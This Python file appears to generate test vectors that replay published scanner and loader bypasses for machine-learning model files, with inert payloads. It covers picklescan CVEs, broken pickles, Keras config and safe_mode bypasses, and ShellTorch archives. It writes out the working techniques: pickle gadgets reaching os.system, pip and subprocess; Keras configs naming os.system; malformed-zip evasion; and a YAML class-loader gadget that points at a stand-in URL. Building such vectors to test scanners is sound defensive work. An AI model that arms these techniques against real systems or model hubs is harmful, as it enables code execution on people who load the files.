"""Published attacks on scanners and loaders, replayed in kind with inert payloads."""

from __future__ import annotations

import base64
import io
import json
import marshal
from typing import TYPE_CHECKING

from vectors.asm import CODE, COMMAND, Vector, benign, call, payload, pickle, proto
from vectors.writers import Member, archive, seven

if TYPE_CHECKING:
    from collections.abc import Iterator

PT = Member("archive/data.pkl", payload(2))
VERSION = Member("archive/version", b"3\n")


def vectors() -> Iterator[Vector]:
    """All of this file."""
    for group in (picklescan, keras, archives):
        yield from group()


def picklescan() -> Iterator[Vector]:
    # CVE-2025-1716: pip.main() installs a package, which runs its build.
    yield Vector("CVE-2025-1716", "pip main", "model.pkl", pickle(call("pip:main", ["--version"])))
    yield Vector(
        "CVE-2025-1716", "pip inside", "model.pkl", pickle(call("pip._internal.cli.main:main", ["--version"]))
    )
    # CVE-2025-1889: a second pickle in the archive with a suffix that is not looked at.
    outer = pickle(call("torch.serialization:load", "archive/config.p", version=2), version=2)
    yield Vector(
        "CVE-2025-1889",
        "config.p",
        "model.pt",
        archive(Member("archive/data.pkl", benign(2)), Member("archive/config.p", payload(2)), VERSION),
    )
    yield Vector(
        "CVE-2025-1889",
        "loaded by the first",
        "model.pt",
        archive(Member("archive/data.pkl", outer), Member("archive/config.p", payload(2)), VERSION),
    )
    # CVE-2025-1944: names differ between the header and the directory, so that zipfile raises.
    yield Vector(
        "CVE-2025-1944",
        "renamed in the header",
        "model.pt",
        archive(PT._replace(name="archive/data.pkl", central="archive/datap.kl"), VERSION),
    )
    yield Vector(
        "CVE-2025-1944",
        "of another member",
        "model.pt",
        archive(VERSION._replace(central="archive/versiom"), PT),
    )
    # CVE-2025-1945: a flag bit makes zipfile raise and torch's reader go on.
    yield Vector("CVE-2025-1945", "encryption bit", "model.pt", archive(PT._replace(flags=1), VERSION))
    yield Vector(
        "CVE-2025-1945", "encryption bit of another", "model.pt", archive(VERSION._replace(flags=1), PT)
    )
    # CVE-2025-10155: a pickle with the suffix of a torch file.
    yield Vector("CVE-2025-10155", "plain pickle as .bin", "pytorch_model.bin", payload())
    yield Vector("CVE-2025-10155", "plain pickle as .pt", "model.pt", payload(0))
    # CVE-2025-10156: a bad checksum makes zipfile raise.
    yield Vector(
        "CVE-2025-10156",
        "all checksums zero",
        "model.pt",
        archive(PT._replace(crc=0), VERSION._replace(crc=0)),
    )
    # CVE-2025-10157: a submodule of a listed module.
    yield Vector(
        "CVE-2025-10157",
        "asyncio inside",
        "model.pkl",
        pickle(
            call(
                "asyncio.unix_events:_UnixSubprocessTransport._start",
                call("builtins:object"),
                COMMAND,
                True,
                None,
                None,
                None,
                0,
            )
        ),
    )
    yield Vector(
        "CVE-2025-10157",
        "pip vendored",
        "model.pkl",
        pickle(call("pip._vendor.distlib.util:resolve", "os", "system")),
    )
    # The broken pickles found on a public hub in February 2025 ("nullifAI").
    hit = proto(2) + call("builtins:exec", CODE, version=2)
    yield Vector(
        "broken-pickle", "payload, then an unknown opcode", "model.pkl", hit + b"0" + b"\x59\x59\x59"
    )
    yield Vector(
        "broken-pickle", "payload, then a string cut off", "model.pkl", hit + b"X\xff\x00\x00\x00model"
    )
    yield Vector("broken-7z", "as .pt", "model.pt", seven("data.pkl", hit + b"."))
    yield Vector(
        "broken-7z",
        "with the broken one inside",
        "pytorch_model.bin",
        seven("archive/data.pkl", hit + b"\x59"),
    )


def lambda_layer(name: str = "f") -> dict[str, object]:
    """A Keras Lambda layer whose function is marshalled bytecode of `lambda x: print(1)`."""
    code = base64.b64encode(marshal.dumps(compile("lambda x: print(1)", name, "eval").co_consts[0])).decode()
    return {
        "class_name": "Lambda",
        "config": {
            "name": name,
            "function": [code, None, None],
            "function_type": "lambda",
            "output_shape": None,
            "arguments": {},
        },
    }


def model_config(*layers: object) -> dict[str, object]:
    return {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": list(layers)},
        "keras_version": "2.13.1",
        "backend": "tensorflow",
    }


def keras3(config: object, *more: Member) -> bytes:
    """A `.keras` archive around a configuration."""
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    return archive(
        Member("metadata.json", meta),
        Member("config.json", json.dumps(config).encode()),
        Member("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
        *more,
    )


def node(module: str | None, name: str, config: object, registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def keras() -> Iterator[Vector]:
    # CVE-2025-1550: any function of any module, by its name in config.json, whatever safe_mode says.
    function = node("subprocess", "Popen", {"args": [COMMAND]})
    layer = node(
        "keras.layers",
        "Lambda",
        {
            "name": "l",
            "function": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
        },
    )
    shell = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    yield Vector(
        "CVE-2025-1550",
        "a class of another module",
        "model.keras",
        keras3(node("keras", "Sequential", {"layers": [function]})),
    )
    yield Vector(
        "CVE-2025-1550",
        "a function in a layer",
        "model.keras",
        keras3(node("keras", "Sequential", {"layers": [layer]})),
    )
    inbound = {
        **node("keras.layers", "Dense", {"name": "d", "units": 1, "activation": shell}),
        "inbound_nodes": [{"args": [COMMAND], "kwargs": {}}],
    }
    yield Vector(
        "CVE-2025-1550",
        "an activation with its argument",
        "model.keras",
        keras3(node("keras.src.models.functional", "Functional", {"layers": [inbound]})),
    )
    try:
        import h5py
    except ImportError:  # the two vectors below need its writer
        return
    # CVE-2025-9905: safe_mode is ignored for .h5, so the marshalled Lambda runs.
    for name, config in {
        "lambda": model_config(lambda_layer()),
        "nested lambda": model_config(model_config(lambda_layer())),
    }.items():
        out = io.BytesIO()
        with h5py.File(out, "w", track_order=False) as file:
            file.attrs["model_config"] = json.dumps(config)
            file.attrs["keras_version"] = "2.13.1"
            file.create_group("model_weights", track_order=False)
        yield Vector("CVE-2025-9905", name, "model.h5", out.getvalue())


def archives() -> Iterator[Vector]:
    # ShellTorch (CVE-2023-43654, CVE-2022-1471): a model archive with a handler, and a YAML that builds objects.
    manifest = {
        "createdOn": "1/1/2025",
        "runtime": "python",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": "handler.py",
            "modelVersion": "1",
        },
        "archiverVersion": "0.8.2",
    }
    handler = b"import os\n\n\ndef handle(data, context):\n    os.system('true')\n\n\nos.system('true')\n"
    head = Member("MAR-INF/MANIFEST.json", json.dumps(manifest).encode())
    yield Vector(
        "shelltorch",
        "handler with a payload",
        "model.mar",
        archive(
            head, Member("handler.py", handler), Member("model.pt", archive(Member("m/data.pkl", benign(2))))
        ),
    )
    yield Vector(
        "shelltorch",
        "pickle inside",
        "model.mar",
        archive(head, Member("handler.py", b"x = 1\n"), Member("model.pt", archive(PT))),
    )
    yaml = b"minWorkers: 1\nmodels: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1:1/']]]]\n"
    yield Vector(
        "shelltorch",
        "object in a workflow",
        "workflow.war",
        archive(
            Member("WAR-INF/MANIFEST.json", b'{"workflow": {"workflowName": "w", "specFile": "spec.yaml"}}'),
            Member("spec.yaml", yaml),
        ),
    )
